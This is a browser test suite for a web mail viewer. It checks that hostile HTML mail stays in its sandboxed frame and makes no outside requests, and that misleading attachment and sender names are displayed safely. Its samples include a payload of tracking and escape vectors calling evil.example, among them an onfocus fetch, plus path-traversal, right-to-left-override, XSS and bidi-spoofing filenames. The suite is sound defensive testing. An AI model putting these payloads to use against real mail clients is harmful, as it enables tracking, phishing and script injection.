/** Mail made to do harm: it stays in its frame, says what it hides, asks nobody, and takes nothing from the page. */
import { expect, test } from 'vitest'
import { axeFaults, open, openMessage, row, tab, withBrowser } from './browser.js'

withBrowser()

const html = (subject: string, body: string) =>
  `From: x@example.com\r\nTo: ada@example.com\r\nSubject: ${subject}\r\nContent-Type: text/html\r\n\r\n${body}`

/** Everything that covers, leaves, or asks for something outside. */
const ESCAPE = `<!doctype html><html><head>
<base href="http://evil.example/" target="_top">
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<link rel="stylesheet" href="http://evil.example/style.css"><link rel="prefetch" href="http://evil.example/pre">
<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="http://evil.example">
<style>
@import "http://evil.example/import.css"; @import url(//evil.example/b.css);
@font-face { font-family: f; src: url(http://evil.example/f.woff) }
body { font-family: f; background: \\75rl(http://evil.example/escaped.png); animation: spin 1ms infinite; cursor: url(http://evil.example/c.cur), none }
@keyframes spin { to { transform: rotate(1turn) } }
.cover { position: fixed; inset: -9999px; z-index: 2147483647; width: 99999vw; height: 99999vh; background: red }
</style></head><body>
<div class="cover">cover</div>
<img src="http://evil.example/a.png" srcset="//evil.example/b.png 2x"><video poster="http://evil.example/p.png" src="http://evil.example/v"></video>
<object data="http://evil.example/o"></object><embed src="http://evil.example/e"><iframe src="http://evil.example/i"></iframe>
<svg><image href="http://evil.example/s.png"/><use href="http://evil.example/u#x"/></svg>
<form action="http://evil.example/form"><input autofocus onfocus="fetch('http://evil.example')"><button>Send</button></form>
<table background="http://evil.example/t.png"><tr><td>x</td></tr></table>
<a href="http://127.0.0.1:9/" target="_top" ping="http://evil.example/ping">leave</a>
</body></html>`

test('HTML that covers, leaves or phones home stays in its frame, and nobody is asked', async () => {
  const { page, mail } = await open({ mails: [{ subject: 'Harmless', text: 'x' }] })
  const asked: string[] = []
  page.context().on('request', request => asked.push(new URL(request.url()).host))
  await mail.add(html('Escape', ESCAPE))
  await openMessage(page, 'Escape')
  const frame = page.frameLocator('.stage iframe')
  await frame.getByText('cover').waitFor()
  const stage = await page.locator('.stage').boundingBox()
  expect(await page.locator('.stage iframe').boundingBox()).toMatchObject({ width: stage?.width })
  for (const name of ['Forced dark', 'Compare']) {
    await page.getByRole('button', { name }).click()
  }
  await page.frameLocator('iframe[title*="Desktop, dark"]').getByText('cover').waitFor()
  await page.keyboard.press('Escape')
  // What is beside the frame can still be used, and the page is still there.
  await row(page, 'Harmless').getByRole('link').click()
  await page.getByRole('heading', { name: 'Harmless', level: 2 }).waitFor()
  expect(page.url()).toContain(mail.url)
  expect([...new Set(asked)]).toEqual([new URL(mail.url).host])
})

test('10 MB of HTML hold nothing up', async () => {
  const { page, mail } = await open({ mails: [{ subject: 'Small', text: 'x' }] })
  await mail.add(html('Huge', `<p>begin</p>${`<p>${'filler '.repeat(280)}</p>\r\n`.repeat(5_200)}<p>end</p>`))
  await openMessage(page, 'Huge')
  await page.frameLocator('.stage iframe').getByText('begin').waitFor()
  await page.keyboard.press('j')
  await page.getByRole('heading', { name: 'Small', level: 2 }).waitFor()
})

/** The name as a mail has it, and what of it is shown. */
const NAMES: [name: string, shown: string][] = [
  ['invoice\u202exslx.exe', 'U+202E'],
  ['../../etc/passwd', 'passwd'],
  ['a\u200bb\u2066c.txt', 'U+200B'],
  ['<img src=x onerror=alert(1)>.txt', '<img src=x onerror=alert(1)>.txt'],
  [`${'long '.repeat(60)}.txt`, 'long long'],
  ['con.txt:stream', 'con.txt'],
]

test('5,000 attachments, and names that mislead', async () => {
  const attachments = [
    ...NAMES.map(([filename]) => ({ filename, content: 'x' })),
    ...Array.from({ length: 5_000 - NAMES.length }, (_, n) => ({ filename: `f${n}.txt`, content: 'x' })),
  ]
  const { page } = await open({
    mails: [
      {
        from: { name: 'Bank\u202e moc.elpmaxe@knab', address: 'evil@example.com' },
        subject: 'pay\u200bpal \u2067invoice\u2069',
        text: 'x',
        attachments,
      },
    ],
  })
  const spoofed = row(page, 'pay')
  for (const point of ['U+200B', 'U+2067', 'U+202E']) await spoofed.getByText(point).first().waitFor()
  await spoofed.getByRole('link').click()
  await tab(page, 'Parts').click()
  const parts = page.getByRole('region', { name: 'Parts of the message' })
  for (const [, shown] of NAMES) await parts.getByText(shown).first().waitFor()
  await parts.getByText(/and 4,\d+ more parts/).waitFor()
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(1280)
  expect(await axeFaults(page)).toEqual([])
})
